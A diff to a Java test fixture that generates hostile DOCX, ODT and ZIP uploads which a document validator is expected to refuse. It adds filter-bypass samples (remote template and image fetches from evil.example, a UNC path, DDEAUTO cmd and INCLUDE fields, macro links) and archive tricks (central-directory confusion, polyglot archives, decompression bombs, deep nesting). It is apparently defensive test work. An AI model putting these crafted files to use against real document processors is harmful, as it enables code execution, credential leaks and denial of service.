@@ -7,6 +7,7 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.ByteBuffer;
+import java.nio.ByteOrder;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
@@ -14,6 +15,7 @@ import java.util.Arrays;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Random;
 import java.util.zip.CRC32;
 import java.util.zip.Deflater;
 import java.util.zip.DeflaterOutputStream;
@@ -56,6 +58,9 @@ record Hostile(String what, byte[] sent, String refusal) {
     private static final String SVG =
             "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('" + CANARY + "')</script></svg>";
     private static final int MIB = 1024 * 1024;
+    static final String ODF = "urn:oasis:names:tc:opendocument:xmlns:";
+    static final String WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
+    static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 
     private interface Change {
         void apply(PDDocument document) throws IOException;
@@ -72,6 +77,8 @@ record Hostile(String what, byte[] sent, String refusal) {
         all.addAll(pdfs());
         all.addAll(texts());
         all.addAll(documents());
+        all.addAll(bypasses());
+        all.addAll(archives());
         return all;
     }
 
@@ -199,7 +206,7 @@ record Hostile(String what, byte[] sent, String refusal) {
                 refused("DOCX whose text swells", docx(Map.of("word/a.xml", zeros)), "file.document"),
                 refused(
                         "DOCX with an archive",
-                        docx(Map.of("word/a.dat", zip(Map.of("a", bytes("x"))))),
+                        docx(Map.of("word/a.png", zip(Map.of("a", bytes("x"))))),
                         "file.document"),
                 refused("DOCX with a document", docx(Map.of("word/embeddings/a.dat", bytes("x"))), "file.document"),
                 refused("DOCX with a program", docx(Map.of("word/media/a.png", bytes("MZ..."))), "file.document"),
@@ -226,7 +233,7 @@ record Hostile(String what, byte[] sent, String refusal) {
                         "file.document"),
                 refused(
                         "DOCX that asks a program",
-                        docx(Map.of("word/a.xml", bytes("<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"))),
+                        docx(Map.of("word/a.xml", bytes(field("DDEAUTO c:\\\\cmd")))),
                         "file.document"),
                 refused("DOCX with a page behind it", join(docx(Map.of()), bytes(HTML)), "file.document"),
                 refused(
@@ -239,7 +246,8 @@ record Hostile(String what, byte[] sent, String refusal) {
                         "DOCM",
                         zip(Map.of(
                                 "[Content_Types].xml",
-                                bytes("<x t=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"),
+                                bytes(
+                                        "<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"),
                                 "word/document.xml",
                                 bytes("<x/>"))),
                         "file.document"),
@@ -247,14 +255,170 @@ record Hostile(String what, byte[] sent, String refusal) {
                 refused("ODT with scripts", odt(Map.of("Scripts/python/a.py", bytes("x"))), "file.document"),
                 refused(
                         "ODT that acts when it is opened",
-                        odt(Map.of("settings.xml", bytes("<script:event-listener/>"))),
+                        odt(Map.of("settings.xml", bytes("<script:event-listener xmlns:script='x'/>"))),
                         "file.document"),
                 refused(
                         "ODT with a password",
-                        odt(Map.of("META-INF/manifest.xml", bytes("<manifest:encryption-data/>"))),
+                        odt(Map.of("META-INF/manifest.xml", bytes("<manifest:encryption-data xmlns:manifest='x'/>"))),
                         "file.document"),
                 refused("ODT that swells", odt(Map.of("Pictures/a.png", zeros)), "file.document"),
                 refused("ODT with an object", odt(Map.of("Object 1/content.xml", bytes("<x/>"))), "file.document"));
+    }
+
+    /** Ways around somebody who looks for words in what is written, and does not read it. */
+    private static List<Hostile> bypasses() {
+        String template = "Type=\"" + RELATION + "/attachedTemplate\" Target=\"http://evil.example/";
+        String toImage = "<Relationships><Relationship Id=\"rId1\" Type=\"" + RELATION
+                + "/hyperlink\" Target=\"http://evil.example/x.png\" TargetMode=\"External\"/></Relationships>";
+        return List.of(
+                relating(
+                        "in other quotes",
+                        "<Relationship Id='r' Type='" + RELATION
+                                + "/attachedTemplate' Target='http://evil.example/' TargetMode='External'/>"),
+                relating(
+                        "and is called as a link",
+                        "<Relationship Id=\"r\" " + template + "hyperlink\" TargetMode=\"External\"/>"),
+                relating("with a blank", "<Relationship Id=\"r\" " + template + "\" TargetMode =\"External\"/>"),
+                relating(
+                        "with a sign by its number",
+                        "<Relationship Id=\"r\" " + template + "\" TargetMode=\"Extern&#97;l\"/>"),
+                relating(
+                        "behind a sign that seems to end it",
+                        "<Relationship Id=\"a>b\" " + template + "\" TargetMode=\"External\"/>"),
+                relating(
+                        "under a prefix",
+                        "<p:Relationship xmlns:p='x' Id=\"r\" " + template + "\" TargetMode=\"External\"/>"),
+                relating(
+                        "by a type that ends like a link",
+                        "<Relationship Id=\"r\" Type=\"http://evil.example/hyperlink\" Target=\"http://evil.example/\""
+                                + " TargetMode=\"External\"/>"),
+                relating(
+                        "as if it lay inside",
+                        "<Relationship Id=\"r\" Type=\"" + RELATION + "/image\" Target=\"//evil.example/x.png\"/>"),
+                relating(
+                        "of a machine nearby",
+                        "<Relationship Id=\"r\" Type=\"" + RELATION
+                                + "/hyperlink\" Target=\"\\\\10.0.0.1\\share\" TargetMode=\"External\"/>"),
+                saying("fetches an image in two pieces", field("INCLUDE", "PICTURE \"http://evil.example/x.png\" \\d")),
+                saying("fetches text in one attribute", "<w:fldSimple w:instr=\" INCLUDETEXT x\"/>"),
+                saying("links", field(" LINK Excel.Sheet.12 x")),
+                saying(
+                        "hides the name of a field in a field",
+                        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + field("REF name")
+                                + "<w:instrText> TC x</w:instrText>"),
+                saying(
+                        "says a field in what is shown",
+                        "<w:fldChar w:fldCharType=\"begin\"/><w:t>INCLUDE</w:t>"
+                                + "<w:instrText>TEXT x</w:instrText><w:fldChar w:fldCharType=\"end\"/>"),
+                saying("takes a part of a page", "<w:altChunk/>"),
+                refused(
+                        "DOCX with an image that is a link",
+                        docx(Map.of(
+                                "word/_rels/a.xml.rels",
+                                bytes(toImage),
+                                "word/a.xml",
+                                bytes("<a:blip xmlns:a='x' xmlns:r='" + RELATION + "' r:link='rId1'/>"))),
+                        "file.document"),
+                refused(
+                        "DOCX with text called an image",
+                        docx(Map.of("word/media/a.png", bytes("\uFEFF <w:document/>"))),
+                        "file.document"),
+                refused(
+                        "DOCX that says it is in another encoding",
+                        docx(Map.of("word/a.xml", bytes("<?xml version=\"1.0\" encoding=\"UTF-7\"?><x/>"))),
+                        "file.document"),
+                drawing(
+                        "by an address in another order",
+                        "xlink:actuate=\"onLoad\" xlink:show=\"embed\"" + " xlink:href=\"http://evil.example/x.png\""),
+                drawing("by an address without a scheme", "xlink:href=\"//evil.example/x.png\" xlink:show=\"embed\""),
+                drawing("from a path out of it", "xlink:href=\"../x.png\""),
+                drawing(
+                        "from an address that is counted from elsewhere",
+                        "xml:base=\"http://evil.example/\"" + " xlink:href=\"x.png\""),
+                odtSaying("with a link that runs a macro", "<text:a xlink:href=\"vnd.sun.star.script:x\"/>"),
+                odtSaying(
+                        "with a link that opens by itself",
+                        "<text:a xlink:href=\"http://evil.example/\" xlink:actuate=\"onLoad\"/>"),
+                odtSaying("with a part of another text", "<text:section-source xlink:href=\"x.odt\"/>"));
+    }
+
+    private static Hostile relating(String how, String relation) {
+        return refused(
+                "DOCX that fetches its template " + how,
+                docx(Map.of("word/_rels/settings.xml.rels", bytes("<Relationships>" + relation + "</Relationships>"))),
+                "file.document");
+    }
+
+    private static Hostile saying(String what, String text) {
+        return refused("DOCX that " + what, docx(Map.of("word/a.xml", bytes(paragraph(text)))), "file.document");
+    }
+
+    private static Hostile drawing(String how, String attributes) {
+        return odtSaying("with an image " + how, "<draw:image " + attributes + "/>");
+    }
+
+    private static Hostile odtSaying(String what, String text) {
+        return refused("ODT " + what, odt(Map.of("styles.xml", bytes(odtText(text)))), "file.document");
+    }
+
+    static String odtText(String text) {
+        return "<office:text xmlns:office=\"" + ODF + "office:1.0\" xmlns:text=\"" + ODF + "text:1.0\" xmlns:draw=\""
+                + ODF + "drawing:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">" + text + "</office:text>";
+    }
+
+    static String paragraph(String text) {
+        return "<w:p xmlns:w=\"" + WORD + "\">" + text + "</w:p>";
+    }
+
+    static String field(String... pieces) {
+        StringBuilder field = new StringBuilder("<w:r xmlns:w=\"" + WORD + "\"><w:fldChar w:fldCharType=\"begin\"/>");
+        for (String piece : pieces) {
+            field.append("<w:instrText>").append(piece).append("</w:instrText>");
+        }
+        return field + "<w:fldChar w:fldCharType=\"separate\"/><w:t>1</w:t><w:fldChar w:fldCharType=\"end\"/></w:r>";
+    }
+
+    /** Archives of which two programs read two documents, and such as swell or hold whoever looks through them. */
+    private static List<Hostile> archives() {
+        byte[] plain = docx(Map.of("word/a.dat.xml", bytes("<x/>")));
+        byte[] renamed = plain.clone();
+        int listed = new String(plain, StandardCharsets.ISO_8859_1).lastIndexOf("word/a.dat.xml");
+        renamed[listed + 5] = 'b';
+        byte[] noise = new byte[1100 * 1024];
+        new Random(1).nextBytes(noise);
+        byte[] long49 = ("<x>" + "x".repeat(49 * MIB) + "</x>").getBytes(StandardCharsets.US_ASCII);
+        return List.of(
+                refused("DOCX whose list tells of another part", renamed, "file.document"),
+                refused(
+                        "two DOCX in one, of which the list tells of the second",
+                        behind(docx(Map.of()), docx(Map.of("word/vbaProject.bin", bytes("x")))),
+                        "file.document"),
+                refused(
+                        "DOCX whose text swells between noise",
+                        docx(Map.of("word/media/a.jpg", noise, "word/b.xml", long49, "word/c.xml", long49)),
+                        "file.document"),
+                refused(
+                        "DOCX that holds a regular expression",
+                        docx(Map.of("word/_rels/a.xml.rels", bytes("<Relationship ".repeat(150_000)))),
+                        "file.document"),
+                refused(
+                        "DOCX of deep elements",
+                        docx(Map.of("word/a.xml", bytes("<a>".repeat(100_000) + "</a>".repeat(100_000)))),
+                        "file.document"));
+    }
+
+    /** Two archives one behind the other; the list of the second is right, and of the first nothing is left but its parts. */
+    private static byte[] behind(byte[] first, byte[] second) {
+        int cut = ByteBuffer.wrap(first).order(ByteOrder.LITTLE_ENDIAN).getInt(first.length - 6);
+        byte[] moved = second.clone();
+        ByteBuffer list = ByteBuffer.wrap(moved).order(ByteOrder.LITTLE_ENDIAN);
+        int at = list.getInt(moved.length - 6);
+        list.putInt(moved.length - 6, at + cut + 4);
+        while (list.getInt(at) == 0x02014B50) {
+            list.putInt(at + 42, list.getInt(at + 42) + cut + 4);
+            at += 46 + list.getShort(at + 28) + list.getShort(at + 30) + list.getShort(at + 32);
+        }
+        return join(Arrays.copyOf(first, cut), new byte[4], moved);
     }
 
     private static Hostile harmless(String what, byte[] sent) {
@@ -553,14 +717,17 @@ record Hostile(String what, byte[] sent, String refusal) {
                         "[Content_Types].xml",
                         bytes("<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd"
                                 + ".openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")),
-                Map.of("word/document.xml", bytes("<w:document>안녕하세요</w:document>")),
+                Map.of("word/document.xml", bytes("<w:document xmlns:w=\"" + WORD + "\">안녕하세요</w:document>")),
                 more));
     }
 
     static byte[] odt(Map<String, byte[]> more) {
         return zip(List.of(
                 Map.of("mimetype", bytes("application/vnd.oasis.opendocument.text")),
-                Map.of("content.xml", bytes("<office:document-content>안녕하세요</office:document-content>")),
+                Map.of(
+                        "content.xml",
+                        bytes("<office:document-content xmlns:office=\"" + ODF
+                                + "office:1.0\">안녕하세요</office:document-content>")),
                 more));
     }
 
